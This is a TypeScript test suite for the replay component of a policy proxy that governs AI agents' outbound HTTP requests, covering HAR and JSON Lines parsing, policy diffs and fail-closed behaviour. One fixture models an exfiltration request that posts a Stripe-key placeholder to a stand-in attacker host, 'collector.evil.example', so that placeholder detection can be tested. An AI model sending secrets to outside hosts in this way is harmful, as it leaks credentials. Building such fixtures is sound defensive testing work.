// Replay of JSON Lines captures and HAR files: counts, changed rows, baselines, recorded decisions,
// skipped entries with reasons, determinism of time builtins, progress.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import t, { type Test } from 'tap';
import { AuditLog } from '../../state/audit-log.ts';
import { PolicyEngine } from '../../engine/engine.ts';
import { placeholderShapeFinder, readHar } from '../../offline/har.ts';
import { detectFormat, openPolicy, parseTimeFlag, replay, replayFiles, type ReplayItem } from '../../offline/replay.ts';
import { streamLines } from '../../lib/lines.ts';
import { describeRequest } from '../../describe/describe.ts';
import type { RequestDescription } from '../../describe/types.ts';

const header = 'package airlock\n\nimport rego.v1\n\n';

/** "after": GET allowed, DELETE held (critical), the rest denied. */
const policyNew = `${header}default decision := {"action": "deny", "reason": "not allowed", "rule": "default"}

decision := {"action": "allow", "reason": "reads are fine", "rule": "read"} if input.request.method == "GET"

decision := {"action": "approve", "reason": "deletes need a human", "rule": "delete", "approval": {"risk": "critical"}} if input.request.method == "DELETE"
`;

/** "before": everything allowed. */
const policyOld = `${header}decision := {"action": "allow", "reason": "anything goes", "rule": "open"}
`;

/** Decides by the clock: allowed before 2026-06-01 only. */
const policyClock = `${header}cutoff := time.parse_rfc3339_ns("2026-06-01T00:00:00Z")

default decision := {"action": "deny", "reason": "too late", "rule": "after-cutoff"}

decision := {"action": "allow", "reason": "in time", "rule": "before-cutoff"} if time.now_ns() < cutoff
`;

function desc(method: string, url: string, time: string, agent = 'coder'): RequestDescription {
  return describeRequest(
    { id: `${method}-${time}`, time: new Date(time), method, url, headers: [['Accept', 'application/json']], body: Buffer.alloc(0), bodyTruncated: false },
    { agent: { id: agent, labels: {} } },
  );
}

async function collect<T>(it: AsyncIterable<T>): Promise<T[]> {
  const out: T[] = [];
  for await (const x of it) out.push(x);
  return out;
}

async function engines(t: Test, ...sources: string[]): Promise<PolicyEngine[]> {
  const out: PolicyEngine[] = [];
  for (const src of sources) {
    // Not t.testdir(): that is one folder per test, and the test's own files live there.
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'airlock-replay-policy-'));
    fs.writeFileSync(path.join(dir, 'p.rego'), src);
    const e = await openPolicy(dir);
    t.teardown(async () => {
      await e.close();
      fs.rmSync(dir, { recursive: true, force: true, maxRetries: 10 });
    });
    out.push(e);
  }
  return out;
}

t.test('JSON Lines: audit records, bare descriptions and bad lines; against the recorded decisions', async (t) => {
  const dir = t.testdir({});
  const file = path.join(dir, 'capture.jsonl');
  const get = desc('GET', 'https://api.github.com/repos/acme/widgets', '2026-01-05T10:00:00Z');
  const del = desc('DELETE', 'https://api.github.com/repos/acme/widgets', '2026-01-05T10:01:00Z');
  const post = desc('POST', 'https://api.github.com/repos/acme/widgets/issues', '2026-01-05T10:02:00Z');
  const lines = [
    JSON.stringify({ time: get.request.time, id: 'a', outcome: 'forwarded', decision: { action: 'allow', reason: 'x', rule: 'read' }, description: get }),
    JSON.stringify({ time: del.request.time, id: 'b', outcome: 'forwarded', decision: { action: 'allow', reason: 'was open', rule: 'open' }, description: del }),
    '',
    JSON.stringify(post), // a bare description: no recorded decision
    '{"not json',
    JSON.stringify({ time: '2026-01-05T10:03:00Z', id: 'c', outcome: 'unauthenticated' }),
    JSON.stringify({ description: { ...get, request: { ...get.request, time: undefined } }, decision: { action: 'allow', reason: 'x' } }),
  ];
  fs.writeFileSync(file, `${lines.join('\n')}\n`);
  const [policy] = await engines(t, policyNew);
  const report = await replayFiles([file], { policy: policy!, againstLog: true });
  t.equal(report.mode, 'log');
  t.equal(report.decided, 3);
  t.same(report.after, { allow: 1, deny: 1, approve: 1 });
  t.same(report.before, { allow: 2, deny: 0, approve: 0 });
  t.equal(report.unrecorded, 1, 'the bare description has nothing to compare with');
  t.equal(report.changed, 1);
  const row = report.changedRows[0]!;
  t.equal(row.source, 'capture.jsonl:2');
  t.match(row, { before: { action: 'allow', rule: 'open' }, after: { action: 'approve', rule: 'delete', risk: 'critical' }, changes: ['action', 'rule'] });
  t.equal(row.input.request.method, 'DELETE', 'the row carries the input');
  t.same(report.transitions, { 'allow → approve': 1 });
  t.equal(report.skipped, 3);
  t.same(report.skippedSamples.map((s) => s.source), ['capture.jsonl:5', 'capture.jsonl:6', 'capture.jsonl:7']);
  t.match(report.skippedSamples[0]!.reason, /not valid JSON/);
  t.match(report.skippedSamples[1]!.reason, /without a description \(outcome: unauthenticated\)/);
  t.match(report.skippedSamples[2]!.reason, /captured time/);
});

t.test('lines: LF or CRLF, split anywhere across chunks (even inside a UTF-8 character); overlong lines are dropped, not held', async (t) => {
  const text = 'first ✓ line\r\nsecond\n' + 'x'.repeat(50) + '\nlast é, no newline';
  const bytes = Buffer.from(text);
  const expected = ['first ✓ line\r', 'second', null, 'last é, no newline'];
  for (const size of [1, 2, 3, 7, 64, bytes.length]) {
    const chunks = Array.from({ length: Math.ceil(bytes.length / size) }, (_, i) => bytes.subarray(i * size, (i + 1) * size));
    const lines = (await collect(streamLines(chunks as unknown as AsyncIterable<Buffer>, 40))).flat();
    t.strictSame(lines, expected, `chunks of ${size} bytes`);
  }
  const overlongLast = (await collect(streamLines([Buffer.from('ok\n' + 'y'.repeat(100))] as unknown as AsyncIterable<Buffer>, 40))).flat();
  t.strictSame(overlongLast, ['ok', null], 'an overlong last line without a newline');
});

t.test('the audit log the proxy writes replays as is', async (t) => {
  const home = t.testdir({});
  const log = new AuditLog(home);
  const d = desc('DELETE', 'https://api.github.com/repos/acme/widgets', '2026-01-05T10:01:00Z');
  log.append({ time: d.request.time, id: d.request.id, agent: 'coder', host: d.request.host, outcome: 'forwarded', decision: { action: 'allow', reason: 'ok', rule: 'open' }, description: d });
  await log.close();
  const [policy] = await engines(t, policyNew);
  const report = await replayFiles([log.file], { policy: policy!, againstLog: true });
  t.equal(report.decided, 1);
  t.equal(report.changed, 1);
  t.same(report.transitions, { 'allow → approve': 1 });
});

t.test('baseline policy: only changes are listed, capped with a count of the rest; reason-only changes are not changes', async (t) => {
  const items: ReplayItem[] = [];
  for (let i = 0; i < 30; i++) items.push({ kind: 'request', source: `gen:${i}`, input: desc(i % 3 === 0 ? 'GET' : i % 3 === 1 ? 'DELETE' : 'POST', `https://api.example.com/x/${i}`, '2026-01-05T10:00:00Z') });
  const [after, before, sameButReason] = await engines(t, policyNew, policyOld, policyNew.replace('reads are fine', 'reads are okay'));
  async function* gen(): AsyncGenerator<ReplayItem> {
    yield* items;
  }
  const r = await replay(gen(), { policy: after!, baseline: before!, maxChanged: 5 });
  t.equal(r.mode, 'baseline');
  t.equal(r.decided, 30);
  t.same(r.before, { allow: 30, deny: 0, approve: 0 });
  t.same(r.after, { allow: 10, deny: 10, approve: 10 });
  t.equal(r.changed, 30, 'GETs change rule (open → read); the rest change action');
  t.equal(r.changedRows.length, 5);
  t.equal(r.changedOmitted, 25);
  t.same(r.transitions, { 'allow → approve': 10, 'allow → deny': 10 });
  t.same(r.changedRows[0]!.changes, ['rule']);
  t.equal(r.baselineVersion, before!.version);

  const parallel = await replay(gen(), { policy: after!, baseline: before!, maxChanged: 5, concurrency: 8 });
  t.same({ ...parallel, elapsedMs: 0 }, { ...r, elapsedMs: 0 }, 'decisions in flight at once give the same report, in input order');

  const same = await replay(gen(), { policy: after!, baseline: sameButReason! });
  t.equal(same.changed, 0, 'a reworded reason is not a changed decision');
});

t.test('deterministic: time builtins see the captured time, run after run', async (t) => {
  const [policy] = await engines(t, policyClock);
  const early = desc('GET', 'https://api.example.com/a', '2026-05-31T23:59:59Z');
  const late = desc('GET', 'https://api.example.com/a', '2026-06-01T00:00:01Z');
  const dir = t.testdir({});
  const file = path.join(dir, 'c.jsonl');
  fs.writeFileSync(file, [early, late, early].map((d) => JSON.stringify(d)).join('\n'));
  const runs = [await replayFiles([file], { policy: policy! }), await replayFiles([file], { policy: policy! })];
  for (const r of runs) t.same(r.after, { allow: 2, deny: 1, approve: 0 });
  const [a, b] = runs.map((r) => ({ ...r, elapsedMs: 0 }));
  t.same(a, b, 'two replays of the same capture give the same report');
  // Outside replay mode the engine uses the clock, which is past neither time here, proving the
  // captured time, not the clock, decided above.
  const live = await policy!.decide(late);
  t.equal(live.action, Date.now() < Date.parse('2026-06-01T00:00:00Z') ? 'allow' : 'deny');
});

function harEntry(request: Record<string, unknown>, started = '2026-01-05T10:00:00.000Z'): Record<string, unknown> {
  return {
    startedDateTime: started, time: 12,
    request: { httpVersion: 'HTTP/1.1', headers: [], queryString: [], cookies: [], headersSize: -1, bodySize: 0, ...request },
    response: { status: 200, statusText: 'OK', httpVersion: 'HTTP/1.1', headers: [], cookies: [], content: { size: 0, mimeType: 'text/plain' }, redirectURL: '', headersSize: -1, bodySize: 0 },
    cache: {}, timings: { send: 0, wait: 10, receive: 2 },
  };
}

t.test('HAR: bodies text, base64, form params, missing; pseudo-headers; skipped entries say why', async (t) => {
  const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
  const har = {
    log: {
      version: '1.2', creator: { name: 'test', version: '1' },
      entries: [
        harEntry({ method: 'GET', url: 'https://api.github.com/repos/acme/widgets', httpVersion: 'HTTP/2', headers: [{ name: ':authority', value: 'api.github.com' }, { name: ':method', value: 'GET' }, { name: 'accept', value: 'application/vnd.github+json' }, { name: 'authorization', value: 'Bearer ghp_realLookingToken' }] }),
        harEntry({ method: 'POST', url: 'https://api.github.com/repos/acme/widgets/issues', headers: [{ name: 'Content-Type', value: 'application/json' }], bodySize: 40, postData: { mimeType: 'application/json', text: '{"title":"Bug","body":"It broke"}' } }),
        harEntry({ method: 'POST', url: 'https://uploads.github.com/repos/acme/widgets/releases/1/assets?name=logo.png', headers: [{ name: 'Content-Type', value: 'image/png' }], bodySize: png.length, postData: { mimeType: 'image/png', text: png.toString('base64'), encoding: 'base64' } }),
        harEntry({ method: 'POST', url: 'https://slack.com/api/chat.postMessage', headers: [{ name: 'Content-Type', value: 'application/x-www-form-urlencoded' }], bodySize: 30, postData: { mimeType: 'application/x-www-form-urlencoded', params: [{ name: 'channel', value: 'C123' }, { name: 'text', value: 'hi there' }] } }),
        harEntry({ method: 'PUT', url: 'https://api.example.com/blob', headers: [{ name: 'Content-Type', value: 'application/octet-stream' }], bodySize: 5000 }),
        harEntry({ method: 'CONNECT', url: 'api.github.com:443' }),
        harEntry({ method: 'GET', url: 'data:text/plain,hello' }),
        harEntry({ method: 'GET', url: 'https://api.github.com/x' }, 'yesterday'),
      ],
    },
  };
  const dir = t.testdir({ 'devtools.har': JSON.stringify(har, null, 2) });
  const file = path.join(dir, 'devtools.har');
  t.equal(detectFormat(file), 'har');
  const items = await collect(readHar(file, { agent: { id: 'browser', labels: {} } }));
  t.equal(items.length, 8, 'no entry is dropped silently');
  const [read, json, binary, form, missing, connect, dataUrl, badTime] = items;
  t.match(read, { kind: 'request', source: 'devtools.har#1', input: { agent: { id: 'browser' }, request: { method: 'GET', host: 'api.github.com', time: '2026-01-05T10:00:00.000Z' } } });
  if (read?.kind === 'request') {
    t.notOk(Object.keys(read.input.request.headers).some((h) => h.startsWith(':')), 'HTTP/2 pseudo-headers are not headers');
    t.same(read.input.request.headers.authorization, ['Bearer [redacted]'], 'credentials are redacted like live traffic');
    t.match(read.input.service, { name: 'github', operation: 'repos.get', effect: 'read' }, 'the service adapters ran');
  }
  t.match(json, { kind: 'request', input: { request: { body: { json: { title: 'Bug' }, truncated: false } }, service: { operation: 'issues.create' } } });
  t.match(binary, { kind: 'request', notes: [/binary body/], input: { request: { body: { size: png.length, content_type: 'image/png', truncated: false } } } });
  t.match(form, { kind: 'request', input: { request: { body: { form: { channel: ['C123'], text: ['hi there'] } } } } });
  t.match(missing, { kind: 'request', notes: [/5000 bytes not recorded/], input: { request: { body: { size: 5000, truncated: true } } } });
  t.match(connect, { kind: 'skipped', reason: /CONNECT/ });
  t.match(dataUrl, { kind: 'skipped', reason: /scheme/ });
  t.match(badTime, { kind: 'skipped', reason: /startedDateTime/ });

  const [policy] = await engines(t, policyNew);
  const report = await replayFiles([file], { policy: policy!, agent: { id: 'browser', labels: {} } });
  t.equal(report.decided, 5);
  t.equal(report.skipped, 3);
  t.equal(report.noted, 2);
  t.same(report.after, { allow: 1, deny: 4, approve: 0 });
});

t.test('HAR: not a HAR, broken JSON, empty entries', async (t) => {
  const dir = t.testdir({
    'notes.har': 'hello',
    'broken.har': '{"log": {"version": "1.2", "entries": [{"startedDateTime": ',
    'empty.har': '{"log": {"version": "1.2", "creator": {"name": "x", "version": "1"}, "entries": []}}',
    'other.har': '{"something": "else"}',
  });
  await t.rejects(collect(readHar(path.join(dir, 'notes.har'))), /not a HAR file/);
  await t.rejects(collect(readHar(path.join(dir, 'broken.har'))), /ends in the middle|not valid JSON/);
  t.same(await collect(readHar(path.join(dir, 'empty.har'))), []);
  await t.rejects(collect(readHar(path.join(dir, 'other.har'))), /not a HAR file/);
});

t.test('filters, progress and formats', async (t) => {
  const dir = t.testdir({});
  const file = path.join(dir, 'big.jsonl');
  const lines: string[] = [];
  for (let i = 0; i < 3000; i++) {
    const d = desc('GET', `https://${i % 2 ? 'api.github.com' : 'api.stripe.com'}/v1/x${i}`, new Date(Date.parse('2026-01-05T00:00:00Z') + i * 1000).toISOString(), i % 3 ? 'coder' : 'mailer');
    lines.push(JSON.stringify({ description: d, decision: { action: 'allow', reason: 'x', rule: 'read' } }));
  }
  fs.writeFileSync(file, lines.join('\n'));
  const [policy] = await engines(t, policyNew);
  const seen: number[] = [];
  const all = await replayFiles([file], { policy: policy!, onProgress: (p) => seen.push(p.bytes), progressIntervalMs: 0 });
  t.equal(all.decided, 3000);
  t.ok(seen.length >= 2, 'progress was reported during the run');
  t.equal(seen.at(-1), fs.statSync(file).size, 'the last progress report covers the whole file');
  t.ok(seen.every((b, i) => i === 0 || b >= seen[i - 1]!), 'progress only moves forward');

  const since = Date.parse('2026-01-05T00:10:00Z');
  const filtered = await replayFiles([file], { policy: policy!, filter: { since, until: since + 100_000, host: 'API.GITHUB.COM', agent: 'coder' } });
  // 100 seconds from 00:10:00 → i in [600, 700): odd i (github) not divisible by 3 (coder).
  const expected = Array.from({ length: 100 }, (_, k) => 600 + k).filter((i) => i % 2 === 1 && i % 3 !== 0).length;
  t.equal(filtered.decided, expected);

  t.equal(detectFormat(file), 'jsonl');
  fs.writeFileSync(path.join(dir, 'cases.json'), '{\n  "cases": []\n}\n');
  t.equal(detectFormat(path.join(dir, 'cases.json')), 'tests');
  fs.writeFileSync(path.join(dir, 'one-line.json'), `${lines[0]}\n${lines[1]}\n`);
  t.equal(detectFormat(path.join(dir, 'one-line.json')), 'jsonl');
  fs.writeFileSync(path.join(dir, 'minified-cases.json'), '{"cases":[]}\n');
  t.equal(detectFormat(path.join(dir, 'minified-cases.json')), 'tests', 'a minified traffic test file');
  fs.writeFileSync(path.join(dir, 'capture.txt'), `${lines[0]}\n`);
  t.equal(detectFormat(path.join(dir, 'capture.txt')), 'jsonl');

  const now = Date.parse('2026-01-05T12:00:00Z');
  t.equal(parseTimeFlag('2h', now), now - 2 * 3600e3);
  t.equal(parseTimeFlag('2026-01-05', now), Date.parse('2026-01-05T00:00:00Z'));
  t.equal(parseTimeFlag('2026-01-05T10:00:00+02:00', now), Date.parse('2026-01-05T08:00:00Z'));
  t.throws(() => parseTimeFlag('yesterday', now), /not a time/);
});

t.test('abort stops a replay and says so', async (t) => {
  const [policy] = await engines(t, policyNew);
  const ac = new AbortController();
  let n = 0;
  async function* endless(): AsyncGenerator<ReplayItem> {
    for (let i = 0; i < 100_000; i++) {
      if (++n === 50) ac.abort();
      yield { kind: 'request', source: `x:${i}`, input: desc('GET', 'https://api.example.com/', '2026-01-05T10:00:00Z') };
    }
  }
  const r = await replay(endless(), { policy: policy!, signal: ac.signal });
  t.ok(r.aborted);
  t.ok(r.decided < 100, `stopped early (${r.decided})`);
});

t.test('a replay with no policy loaded denies (fails closed) rather than throwing', async (t) => {
  const engine = new PolicyEngine({ mode: 'inline' });
  async function* one(): AsyncGenerator<ReplayItem> {
    yield { kind: 'request', source: 's', input: desc('GET', 'https://api.example.com/', '2026-01-05T10:00:00Z') };
  }
  const r = await replay(one(), { policy: engine });
  t.same(r.after, { allow: 0, deny: 1, approve: 0 });
  t.equal(r.policyVersion, 'none');
  t.equal(r.failClosed, 1, 'a fail-closed deny is reported as such');
  t.match(r.failClosedSamples, [{ source: 's', kind: 'no-policy' }]);
});

t.test('HAR placeholders: found by shape without the store, raw or percent-encoded', async (t) => {
  const ph = 'airlock-ph-stripe_key-0123456789abcdef0123456789abcdef';
  t.same(placeholderShapeFinder.find(`Bearer ${ph}`), ['stripe_key']);
  t.same(placeholderShapeFinder.find(encodeURIComponent(`k=${ph}`).replace(/-/g, '%2D')), ['stripe_key']);
  t.same(placeholderShapeFinder.find('airlock-ph-x-123'), [], 'not the shape of a placeholder');
  const har = { log: { version: '1.2', creator: { name: 't', version: '1' }, entries: [
    harEntry({ method: 'POST', url: 'https://collector.evil.example/k', headers: [{ name: 'Content-Type', value: 'application/json' }], bodySize: 10, postData: { mimeType: 'application/json', text: JSON.stringify({ key: ph }) } }),
  ] } };
  const dir = t.testdir({ 'x.har': JSON.stringify(har) });
  const [item] = await collect(readHar(path.join(dir, 'x.har')));
  t.match(item, { kind: 'request', input: { placeholders: [{ name: 'stripe_key', where: ['body'] }] } });
});

t.test('decisions slower than the live budget are reported; replay engines get a generous budget', async (t) => {
  const slowEngine = {
    version: 'v-slow',
    decide: async () => ({ action: 'allow' as const, reason: 'ok', rule: 'r', policy_version: 'v-slow', decision_us: 300_000 }),
  } as unknown as PolicyEngine;
  async function* two(): AsyncGenerator<ReplayItem> {
    for (const s of ['a', 'b']) yield { kind: 'request', source: s, input: desc('GET', 'https://api.example.com/', '2026-01-05T10:00:00Z') };
  }
  const r = await replay(two(), { policy: slowEngine });
  t.equal(r.slow, 2);
  t.same(r.slowSamples, [{ source: 'a', ms: 300 }, { source: 'b', ms: 300 }]);
  const [engine] = await engines(t, policyNew);
  t.equal(engine!.timeoutMs, 10_000, 'a busy machine does not turn replayed decisions into timeouts');
});

t.test('a draft that only weakens a decision is a change: step-up, hold, secret slot, rate limits, raw_path, bare_headers (eleventh pass)', async (t) => {
  // The live policy: a held POST with step-up and a grant-proof session hold, a read with a secret in
  // Authorization, an egress budget and bare headers. Each draft drops or moves one of those only;
  // action, rule and risk stay, so replay said "no decision changes" and the draft was published.
  const live = `${header}decision := {"action": "approve", "reason": "r", "rule": "w", "approval": {"risk": "high", "step_up": true, "timeout": "60s", "because": ["req-1"]}} if input.request.method == "POST"

decision := {"action": "allow", "reason": "r", "rule": "read", "credentials": [{"secret": "github_token", "in": "header", "name": "Authorization", "format": "Bearer {value}"}], "rate_limits": [{"key": "egress:h", "limit": 1048576, "window": "1h", "unit": "egress_bytes"}], "bare_headers": true} if input.request.method == "GET"
`;
  // Each draft weakens the POST's decision in one way and the GET's in another (fewer policies to compile).
  const drafts: Array<[string, string, [string, string]]> = [
    ['step-up dropped; egress budget dropped', live.replace('"step_up": true, ', '').replace(/"rate_limits": \[[^\]]*\], /, ''), ['approval', 'rate_limits']],
    ['hold timeout lengthened; secret moved to a query parameter', live.replace('"60s"', '"24h"').replace('"in": "header", "name": "Authorization"', '"in": "query", "name": "access_token"'), ['approval', 'credentials']],
    ['session hold dropped (grants now cover it); bare_headers dropped', live.replace(', "because": ["req-1"]', '').replace(', "bare_headers": true', ''), ['approval', 'forwarding']],
    ['risk raised, nothing else; egress budget raised and raw_path added', live.replace('"risk": "high"', '"risk": "critical"').replace('1048576', '1073741824').replace('"bare_headers": true', '"bare_headers": true, "raw_path": true'), ['risk', 'rate_limits forwarding']],
  ];
  const [base, ...policies] = await engines(t, live, ...drafts.map(([, src]) => src));
  const items: ReplayItem[] = [
    { kind: 'request', source: 'post', input: desc('POST', 'https://h.example/x', '2026-01-05T10:00:00Z') },
    { kind: 'request', source: 'get', input: desc('GET', 'https://h.example/x', '2026-01-05T10:00:01Z') },
  ];
  async function* gen(): AsyncGenerator<ReplayItem> {
    yield* items;
  }
  for (const [i, [name, , kinds]] of drafts.entries()) {
    const r = await replay(gen(), { policy: policies[i]!, baseline: base! });
    t.equal(r.changed, 2, `${name}: both requests changed`);
    t.same(r.changedRows.map((row) => row.changes.join(' ')), kinds, `${name}: ${kinds.join(', ')}`);
    t.ok(r.changedRows.every((row) => row.details.length), `${name}: said in words (${r.changedRows.flatMap((row) => row.details).join('; ')})`);
  }
  const same = await replay(gen(), { policy: base!, baseline: base! });
  t.equal(same.changed, 0, 'the same policy changes nothing');
});

t.test('against a traffic test file, what its cases expect besides action and rule is compared (eleventh pass)', async (t) => {
  // The expectation is the "recorded" side: a draft that lowers an expected critical, step-up hold
  // to a high one (same rule) replayed as "no decision changes" against it.
  const dir = t.testdir({
    'cases.yaml': `agent: bot
cases:
  - name: deleting a repository is critical
    request:
      method: DELETE
      url: https://h.example/repos/acme/app
    expect:
      action: approve
      rule: delete
      approval:
        risk: critical
        step_up: true
  - name: a read
    request:
      method: GET
      url: https://h.example/repos/acme/app
    expect:
      action: allow
      rule: read
`,
  });
  const policy = (risk: string, stepUp: boolean) => `${header}default decision := {"action": "allow", "reason": "r", "rule": "read"}

decision := {"action": "approve", "reason": "r", "rule": "delete", "approval": {"risk": "${risk}", "step_up": ${stepUp}}} if input.request.method == "DELETE"
`;
  const [same, lowered] = await engines(t, policy('critical', true), policy('high', false));
  const file = path.join(dir, 'cases.yaml');
  t.equal((await replayFiles([file], { policy: same!, againstLog: true })).changed, 0, 'the policy the cases describe changes nothing');
  const r = await replayFiles([file], { policy: lowered!, againstLog: true });
  t.equal(r.changed, 1);
  t.same(r.changedRows[0]?.changes, ['risk', 'approval'], 'the lowered risk and the dropped step-up are changes');
});
